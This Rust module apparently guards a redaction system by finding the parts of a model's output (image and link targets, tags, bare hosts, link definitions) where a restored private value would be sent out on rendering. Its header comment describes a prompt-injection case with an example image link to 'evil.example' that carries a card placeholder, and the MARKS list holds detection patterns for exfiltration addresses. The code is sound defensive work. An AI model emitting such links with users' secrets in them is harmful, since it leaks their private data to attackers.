//! Finds the parts of a text in which no value may be restored, because a program that renders the text would send them
//! out.
//!
//! The text of a tool can make a model write `![b](https://evil.example/[CARD_1])`, and a program that renders it
//! fetches the image. Programs differ in the Markdown that they accept. So every doubtful case counts as an address: an
//! unknown escape, a quote without an end, a surplus bracket.

/// Marks that make a word an address, directly or after a renderer has decoded its escapes.
const MARKS: [&str; 16] = [
    "//",
    "www.",
    "](",
    "@",
    "http:",
    "https:",
    "ftp:",
    "file:",
    "data:",
    "blob:",
    "mailto:",
    "tel:",
    "sms:",
    "javascript:",
    "&#",
    "&sol;",
];

/// Parts of a text in which no value is restored.
pub(super) struct Addresses {
    /// Byte ranges by kind. Ranges of one kind are ordered and do not overlap.
    kinds: [Vec<(usize, usize)>; 4],
}

impl Addresses {
    /// Reads a text in a constant number of passes. `comes_back` returns whether a placeholder (`CARD_1`) will be
    /// replaced: `[CARD_1]: …` is then not a link definition.
    pub(super) fn of(text: &str, comes_back: impl Fn(&str) -> bool) -> Self {
        Self { kinds: [words(text), tags(text), targets(text), definitions(text, comes_back)] }
    }

    /// Returns whether the text at this position may be sent out.
    pub(super) fn hold(&self, at: usize) -> bool {
        let inside = |parts: &Vec<(usize, usize)>| {
            let next = parts.partition_point(|(_, end)| *end <= at);
            parts.get(next).is_some_and(|(begin, _)| *begin <= at)
        };
        self.kinds.iter().any(inside)
    }
}

/// Returns the words that contain an address. WHY: only ASCII white space ends a word, since some renderers continue
/// over other white space.
fn words(text: &str) -> Vec<(usize, usize)> {
    let mut parts = Vec::new();
    let mut at = 0;
    for word in text.split(|c: char| c.is_ascii_whitespace()) {
        let end = at + word.len();
        if word.contains('[') && is_address(word) {
            parts.push((at, end));
        }
        at = end + 1;
    }
    parts
}

fn is_address(word: &str) -> bool {
    let word = word.to_ascii_lowercase();
    if ["\\\\", "\\/", "/\\"].iter().any(|slashes| word.contains(slashes)) {
        return true; // a browser takes the one for the other
    }
    let word = word.replace('\\', "");
    MARKS.iter().any(|mark| word.contains(mark)) || has_host(&word)
}

/// Matches `evil.example/…`, `evil.example?…` and `[CARD_1].evil.example`: many renderers make links of bare hosts.
fn has_host(word: &str) -> bool {
    let mut before = None;
    let mut letters = word.chars().peekable();
    while let Some(letter) = letters.next() {
        let named =
            before.replace(letter).is_some_and(|c: char| c.is_alphanumeric() || matches!(c, '-' | ']'));
        let ends_in_letters = || {
            let mut rest = letters.clone();
            let mut count = 0_usize;
            // A top-level domain has 2 to 63 letters.
            while count < 64 && rest.next_if(|c| c.is_alphanumeric() || *c == '-').is_some() {
                count += 1;
            }
            (count >= 2).then(|| rest.next())
        };
        if letter == '.' && named {
            match ends_in_letters() {
                Some(Some('/' | '?' | '#' | ':')) => return true,
                Some(_) if word.contains("].") => return true,
                _ => {}
            }
        }
    }
    false
}

/// State of the tag parser. Each `<` may open a tag, so several states can be active at once.
#[derive(Clone, Copy, Default)]
struct Tag {
    /// After `<`, before `>`.
    plain: bool,
    /// The same, at a place where a quote begins a value.
    equals: bool,
    /// Inside `="…"`, and inside `='…'`.
    double: bool,
    single: bool,
}

impl Tag {
    const fn any(self) -> bool {
        self.plain || self.equals || self.double || self.single
    }

    fn read(&mut self, letter: u8, before: Option<u8>) {
        let was = *self;
        match letter {
            b'>' if before != Some(b'\\') => (self.plain, self.equals) = (false, false),
            // WHY: `plain` stays set: in a value without quotes, this character has no meaning.
            b'"' => {
                (self.double, self.equals) = (was.equals, false);
                self.plain |= was.equals || was.double;
            }
            b'\'' => {
                (self.single, self.equals) = (was.equals, false);
                self.plain |= was.equals || was.single;
            }
            b'=' => self.equals |= was.plain,
            letter if letter.is_ascii_whitespace() => {}
            _ => {
                self.plain |= was.equals;
                self.equals = false;
            }
        }
    }
}

/// Returns everything between `<` and `>`. An open tag or quote extends to the end of the text.
fn tags(text: &str) -> Vec<(usize, usize)> {
    let last = text.rfind('>').unwrap_or_default();
    let (mut parts, mut tag, mut begin, mut before) = (Vec::new(), Tag::default(), 0, None);
    let bytes = text.as_bytes();
    for (at, letter) in text.bytes().enumerate() {
        let next = bytes.get(at + 1).copied().unwrap_or_default();
        // `5 < 6` opens no tag unless a `>` follows.
        let opens = next.is_ascii_alphabetic() || matches!(next, b'/' | b'!' | b'?' | b'\\') || at < last;
        let was = tag.any();
        tag.read(letter, before);
        tag.plain |= letter == b'<' && opens;
        match (was, tag.any()) {
            (false, true) => begin = at,
            (true, false) => parts.push((begin, at)),
            _ => {}
        }
        before = Some(letter);
    }
    if tag.any() {
        parts.push((begin, text.len()));
    }
    parts
}

/// Returns targets of links and images, `](…)`. A blank line ends them.
fn targets(text: &str) -> Vec<(usize, usize)> {
    let (mut parts, mut depth, mut begin, mut at) = (Vec::new(), 0_usize, 0, 0);
    let mut before = None;
    for line in text.split_inclusive('\n') {
        if depth > 0 && line.bytes().all(|byte| matches!(byte, b' ' | b'\t' | b'\r' | b'\n')) {
            parts.push((begin, at));
            depth = 0;
        }
        for letter in line.bytes() {
            match letter {
                b'(' if depth > 0 => depth += 1,
                b'(' if before == Some(b']') => (depth, begin) = (1, at),
                // WHY: an opening bracket counts even if it is escaped, and an escaped closing one does not. So the
                // range may end too late, but never too early.
                b')' if depth > 0 && before != Some(b'\\') => {
                    depth -= 1;
                    if depth == 0 {
                        parts.push((begin, at));
                    }
                }
                _ => {}
            }
            before = Some(letter);
            at += 1;
        }
    }
    if depth > 0 {
        parts.push((begin, at));
    }
    parts
}

/// Returns the word after `[name]:`, on the same line or a later one.
fn definitions(text: &str, comes_back: impl Fn(&str) -> bool) -> Vec<(usize, usize)> {
    let mut parts: Vec<(usize, usize)> = Vec::new();
    for (at, mark) in text.match_indices("]:") {
        if parts.last().is_some_and(|(_, end)| at < *end) {
            continue;
        }
        let name = text.get(..at).and_then(|before| {
            // WHY: names are short, and a longer search would make a text of such ends slow.
            let from = before.bytes().rev().take(super::LONGEST).position(|byte| byte == b'[')?;
            before.get(before.len() - from..)
        });
        if name.is_some_and(&comes_back) {
            continue;
        }
        let rest = text.get(at + mark.len()..).unwrap_or_default();
        let word = rest.trim_ascii_start();
        let begin = text.len() - word.len();
        let length = word.bytes().position(|byte| byte.is_ascii_whitespace()).unwrap_or(word.len());
        parts.push((begin, begin + length));
    }
    parts
}
